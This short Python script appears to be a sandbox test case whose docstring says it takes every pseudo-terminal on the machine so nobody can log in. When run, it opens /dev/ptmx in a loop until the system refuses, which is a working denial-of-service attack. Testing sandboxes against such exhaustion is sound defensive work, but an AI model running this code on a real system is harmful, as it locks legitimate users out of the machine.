"""Goal: take all pseudo-terminals of the machine, so that nobody can log in any more.

Without a sandbox: unsafe
"""

import os


def attack():
    taken = []
    try:
        while True:
            taken.append(os.open("/dev/ptmx", os.O_RDONLY | os.O_NOCTTY))
    except OSError as error:
        if taken:
            raise RuntimeError(f"ATTACK SUCCEEDED: {len(taken)} pseudo-terminals, then {error!r}")
        raise RuntimeError(f"stopped by: {error!r}")


attack()
